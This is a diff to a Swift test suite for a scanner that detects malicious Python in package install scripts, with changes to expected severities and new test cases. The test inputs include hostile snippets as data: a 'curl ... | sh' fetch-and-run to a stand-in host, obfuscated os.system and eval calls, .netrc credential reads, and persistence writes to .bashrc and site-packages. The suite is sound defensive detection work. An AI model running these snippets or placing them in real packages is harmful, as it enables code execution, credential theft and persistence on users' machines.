@@ -31,15 +31,16 @@ import Testing
 
     static let installCases: [Case] = [
         Case(
-            name: "aliased module", source: "import os as o\no.system('id')", kind: .process, severity: .high, line: 2),
+            name: "aliased module", source: "import os as o\no.system('id')", kind: .process, severity: .medium, line: 2
+        ),
         Case(
             name: "from-import alias", source: "from os import system as s\ns('curl http://x.invalid | sh')",
             kind: .process, severity: .critical, line: 2),
         Case(
             name: "star import", source: "from subprocess import *\nPopen(['ls', '/'])", kind: .process,
-            severity: .high, line: 2),
+            severity: .medium, line: 2),
         Case(
-            name: "assigned function", source: "import os\nf = os.system\nf('id')", kind: .process, severity: .high,
+            name: "assigned function", source: "import os\nf = os.system\nf('id')", kind: .process, severity: .medium,
             line: 3),
         Case(
             name: "getattr builtins concat", source: "code = 'print(1)'\ngetattr(__builtins__, 'ex' + 'ec')(code)",
@@ -50,7 +51,7 @@ import Testing
         Case(
             name: "__import__ concat still resolves",
             source: "m = __import__('sub' + 'process')\nm.check_output(['whoami'])",
-            kind: .process, severity: .high, line: 2),
+            kind: .process, severity: .medium, line: 2),
         Case(
             name: "globals exec of literal code",
             source: "globals()['exec']('import os; os.system(\"curl https://x.invalid\")')",
@@ -93,7 +94,7 @@ import Testing
         Case(
             name: "map chr name",
             source: "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
-            kind: .process, severity: .high, line: 2),
+            kind: .process, severity: .medium, line: 2),
         Case(
             name: "reversed name", source: "import os\ngetattr(os, 'metsys'[::-1])('id')", kind: .obfuscation,
             severity: .critical, line: 2),
@@ -137,7 +138,9 @@ import Testing
             source: "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
             kind: .writeOutside, severity: .critical, line: 2),
         Case(
-            name: "tmp write", source: "open('/tmp/x.sh', 'w').write(s)", kind: .writeOutside, severity: .high, line: 1),
+            name: "absolute write", source: "open('/opt/tools/x.sh', 'w').write(s)", kind: .writeOutside,
+            severity: .high,
+            line: 1),
         Case(
             name: "pth into site-packages",
             source: "import site, os\np = os.path.join(site.getsitepackages()[0], 'z.pth')\nopen(p, 'w')",
@@ -148,7 +151,7 @@ import Testing
             kind: .writeOutside, severity: .critical, line: 2),
         Case(
             name: "callback", source: "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
-            kind: .process, severity: .high, line: 2),
+            kind: .process, severity: .medium, line: 2),
         Case(
             name: "python -c payload",
             source:
@@ -164,6 +167,38 @@ import Testing
             severity: .critical, line: 2),
         Case(
             name: "exec unknown", source: "exec(something)", kind: .execDynamic, severity: .medium, line: 1),
+        Case(
+            name: "pip install from setup", source: "import os\nos.system('pip install helper-pkg')", kind: .process,
+            severity: .high, line: 2),
+        Case(
+            name: "import_module", source: "import importlib\nimportlib.import_module('subprocess').run(['id'])",
+            kind: .process, severity: .medium, line: 2),
+        Case(
+            name: "os.execv", source: "import os\nos.execv('/bin/sh', ['sh', '-c', 'id'])", kind: .process,
+            severity: .medium, line: 2),
+        Case(
+            name: "os.popen", source: "import os as _o\n_o.popen('uname -a').read()", kind: .process, severity: .medium,
+            line: 2),
+        Case(
+            name: "http.client", source: "import http.client\nc = http.client.HTTPSConnection('x.invalid')",
+            kind: .network, severity: .critical, line: 2),
+        Case(
+            name: "sys.modules lookup", source: "import sys\nsys.modules['o' + 's'].system('id')", kind: .obfuscation,
+            severity: .critical, line: 2),
+        Case(
+            name: "vars builtins", source: "vars(__builtins__)['ev' + 'al']('1')", kind: .obfuscation,
+            severity: .critical,
+            line: 1),
+        Case(
+            name: "nested getattr import", source: "getattr(getattr(__builtins__, '__import__')('os'), 'system')('id')",
+            kind: .process, severity: .medium, line: 1),
+        Case(
+            name: "eval of reversed join", source: "eval(''.join(reversed(')\"di\"(metsys.)\"so\"(__tropmi__')))",
+            kind: .execDecoded, severity: .critical, line: 1),
+        Case(
+            name: "netrc", source: "import os\nopen(os.path.join(os.environ['HOME'], '.netrc')).read()",
+            kind: .credentials,
+            severity: .critical, line: 2),
         Case(
             name: "pickle of decoded", source: "import pickle, base64\npickle.loads(base64.b64decode(x))",
             kind: .execDecoded,
@@ -234,6 +269,15 @@ import Testing
         "def make(script, globs):\n    eval(compile(script, '<attrs generated init>', 'exec'), globs)\n",
         "API_KEY = __import__('os').environ.get('OPENAI_API_KEY')\n",
         "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n",
+        // A cache read back from disk is how pickle is used.
+        "import pickle, zlib\ncache = pickle.loads(zlib.decompress(open('cache.pkz', 'rb').read()))\n",
+        // A script's main block does not run on import.
+        "import pty, sys, urllib.request\nif __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n"
+            + "    urllib.request.urlopen(sys.argv[2])\n",
+        "import pty, sys\nif sys.platform != 'win32' and __name__ == '__main__':\n    def r(fd):\n        return 1\n"
+            + "    pty.spawn(sys.argv[1:], r)\n",
+        // A long list of words, one per line, is not an encoded blob.
+        "OPCODES = set('''\n" + (0..<200).map { "opcode\($0)Name" }.joined(separator: "\n") + "\n'''.split())\n",
     ])
     func libraryCodeIsQuiet(_ source: String) {
         #expect(library(source).findings.isEmpty, "\(library(source).findings)")
@@ -247,6 +291,17 @@ import Testing
         let obfuscated = library("import base64\ndef f():\n    exec(base64.b64decode(P))\n").findings
         #expect(obfuscated.first?.kind == .execDecoded)
         #expect(obfuscated.first?.severity == .high)
+    }
+
+    @Test func mocksAndScratchFilesAreNotCapabilities() {
+        let tests = library(
+            "import httpx, subprocess\nfrom unittest import mock\n@mock.patch.object(httpx.Client, 'send')\n"
+                + "@mock.patch.object(subprocess.Popen, 'wait')\ndef test_x(m, n):\n    pass\n")
+        #expect(tests.findings.isEmpty, "\(tests.findings)")
+        let scratch = install(
+            "import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'probe.c'), 'w').write('int main(){}')\n"
+        )
+        #expect(scratch.findings.isEmpty, "\(scratch.findings)")
     }
 
     @Test func ordinarySetupIsQuiet() {
